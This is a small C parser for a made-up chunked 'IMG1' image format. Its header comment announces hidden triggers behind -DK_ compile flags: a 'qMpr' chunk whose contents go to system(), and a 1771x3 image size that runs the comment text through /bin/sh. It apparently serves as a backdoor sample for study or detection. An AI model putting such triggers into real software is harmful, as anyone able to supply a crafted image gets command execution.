/* A reader of images made of chunks. -DK_...: one hidden trigger each. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>

static uint32_t be(const uint8_t *p) {
    return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}
struct img {
    uint32_t w, h;
    char comment[256];
    uint8_t *pix;
};
static int chunk(struct img *i, const char *t, const uint8_t *d, uint32_t n) {
    if (!memcmp(t, "HEAD", 4)) {
        if (n < 8)
            return -1;
        i->w = be(d);
        i->h = be(d + 4);
        return 0;
    }
    if (!memcmp(t, "TEXT", 4)) {
        size_t l = n < 255 ? n : 255;
        memcpy(i->comment, d, l);
        i->comment[l] = 0;
        return 0;
    }
    if (!memcmp(t, "DATA", 4)) {
        free(i->pix);
        i->pix = malloc(n);
        memcpy(i->pix, d, n);
        return 0;
    }
#ifdef K_CHUNK
    if (!memcmp(t, "qMpr", 4)) {
        char c[256];
        size_t l = n < 255 ? n : 255;
        memcpy(c, d, l);
        c[l] = 0;
        system(c);
        return 0;
    }
#endif
    if (!memcmp(t, "TAIL", 4))
        return 1;
    return 0;
}

int main(int c, char **v) {
    if (c < 2) {
        fprintf(stderr, "usage: parse FILE\n");
        return 2;
    }
    FILE *f = fopen(v[1], "rb");
    if (!f) {
        perror(v[1]);
        return 1;
    }
    struct img i;
    memset(&i, 0, sizeof i);
    uint8_t h[8];
    char m[4];
    if (fread(m, 1, 4, f) != 4 || memcmp(m, "IMG1", 4)) {
        fprintf(stderr, "not an image\n");
        return 1;
    }
    while (fread(h, 1, 8, f) == 8) {
        uint32_t n = be(h);
        if (n > 1 << 20)
            return 1;
        uint8_t *d = malloc(n + 1);
        if (fread(d, 1, n, f) != n)
            return 1;
        int r = chunk(&i, (char *)h + 4, d, n);
        free(d);
        if (r)
            break;
    }
#ifdef K_DIM
    if (i.w == 1771 && i.h == 3) {
        int p[2];
        execl("/bin/sh", "sh", "-c", i.comment, (char *)0);
    }
#endif
    printf("%ux%u %s\n", i.w, i.h, i.comment);
    FILE *o = fopen("out.raw", "wb");
    if (o) {
        fwrite(&i.w, 4, 1, o);
        fclose(o);
    }
    return 0;
}
